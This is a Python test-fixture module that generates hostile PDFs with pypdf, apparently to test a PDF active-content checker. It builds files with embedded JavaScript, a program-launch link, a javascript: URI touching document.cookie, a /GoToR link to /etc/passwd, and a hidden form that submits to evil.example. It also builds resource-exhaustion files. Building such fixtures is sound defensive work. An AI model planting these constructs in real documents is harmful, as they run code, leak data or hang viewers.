"""Hostile PDFs, made on the fly with pypdf (no binary fixtures in the repository)."""

from __future__ import annotations

import io

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)


def _bytes(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def plain_pdf(pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    return _bytes(writer)


def _js(code: str) -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                             NameObject("/JS"): TextStringObject(code)})


def javascript_pdf() -> bytes:
    """Document-level JavaScript, an open action and a page's additional action."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    names = DictionaryObject({NameObject("/JavaScript"): DictionaryObject({
        NameObject("/Names"): ArrayObject([TextStringObject("hello"),
                                           writer._add_object(_js("app.alert('hello')"))])})})
    writer._root_object[NameObject("/Names")] = names
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(_js("app.alert(1)"))
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _js("app.alert(2)")})
    return _bytes(writer)


def launch_pdf() -> bytes:
    """A link annotation that launches a program."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    action = DictionaryObject({NameObject("/S"): NameObject("/Launch"),
                               NameObject("/F"): TextStringObject("calc.exe")})
    link = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0),
                                          NumberObject(100), NumberObject(100)]),
        NameObject("/A"): action})
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    return _bytes(writer)


def embedded_file_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment("payload.exe", b"MZ not really")
    return _bytes(writer)


def xfa_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    form = DictionaryObject({NameObject("/Fields"): ArrayObject(),
                             NameObject("/XFA"): TextStringObject("<xdp:xdp/>")})
    writer._root_object[NameObject("/AcroForm")] = writer._add_object(form)
    return _bytes(writer)


def _hand_written(objects: list[bytes]) -> bytes:
    """A PDF of `objects` (object 1 the catalog) with its cross-reference table: for files
    pypdf will not write, or would take minutes to."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for index, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (index, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
              % (len(objects) + 1, xref))
    return out.getvalue()


def deep_page_tree_pdf(levels: int = 5000) -> bytes:
    """One page under `levels` nested /Pages nodes, written by hand (pypdf will not)."""
    objects: list[bytes] = []
    # 1: catalog, 2: outermost /Pages, 2+i: nested /Pages, last: the page.
    page_number = levels + 2
    objects.append(b"<< /Type /Catalog /Pages 2 0 R >>")
    for i in range(levels):
        number = 2 + i
        parent = b"" if i == 0 else b" /Parent %d 0 R" % (number - 1)
        objects.append(b"<< /Type /Pages /Kids [%d 0 R] /Count 1%s >>" % (number + 1, parent))
    objects.append(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] >>" % (levels + 1))
    assert page_number == len(objects)
    return _hand_written(objects)


def truncated_pdf() -> bytes:
    return plain_pdf()[:-40]


def _link(writer: PdfWriter, page: DictionaryObject, action: DictionaryObject) -> None:
    link = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0),
                                          NumberObject(100), NumberObject(100)]),
        NameObject("/A"): action})
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(link)])


def uri_scheme_pdf(uri: str = "javascript:app.alert(document.cookie)") -> bytes:
    """A link whose /URI is no web address (javascript:, file:)."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    _link(writer, page, DictionaryObject({NameObject("/S"): NameObject("/URI"),
                                          NameObject("/URI"): TextStringObject(uri)}))
    return _bytes(writer)


def remote_goto_pdf() -> bytes:
    """A link that opens another file (/GoToR)."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    _link(writer, page, DictionaryObject({
        NameObject("/S"): NameObject("/GoToR"), NameObject("/F"): TextStringObject("/etc/passwd"),
        NameObject("/D"): ArrayObject([NumberObject(0), NameObject("/Fit")])}))
    return _bytes(writer)


def form_script_pdf() -> bytes:
    """A form field that no page shows, with a calculate script and a submit action: a
    viewer runs them from /AcroForm alone."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    submit = DictionaryObject({NameObject("/S"): NameObject("/SubmitForm"),
                               NameObject("/F"): TextStringObject("https://evil.example/")})
    field = DictionaryObject({
        NameObject("/FT"): NameObject("/Tx"), NameObject("/T"): TextStringObject("total"),
        NameObject("/AA"): DictionaryObject({NameObject("/C"): _js("this.submitForm()")}),
        NameObject("/A"): submit})
    form = DictionaryObject({NameObject("/Fields"): ArrayObject([writer._add_object(field)])})
    writer._root_object[NameObject("/AcroForm")] = writer._add_object(form)
    return _bytes(writer)


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt("secret", algorithm="AES-128")
    return _bytes(writer)


def many_objects_pdf(count: int = 600_000) -> bytes:
    """One page whose resources name `count` tiny objects: past the active-content walk's
    bound, written by hand (pypdf would take minutes)."""
    refs = b" ".join(b"%d 0 R" % (4 + i) for i in range(count))
    bodies = [b"<< /Type /Catalog /Pages 2 0 R >>",
              b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
              b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Junk [" + refs + b"] >>"]
    bodies += [b"%d" % i for i in range(count)]
    return _hand_written(bodies)


def long_comment_pdf(size: int = 50 * 1024 * 1024) -> bytes:
    """A valid one-page PDF with one comment of `size` bytes before its end: pypdf read
    comments a byte at a time, 9 s for this one at each of a build's four parses."""
    data = plain_pdf()
    return data[:-30] + b"%" + b"x" * size + data[-30:]
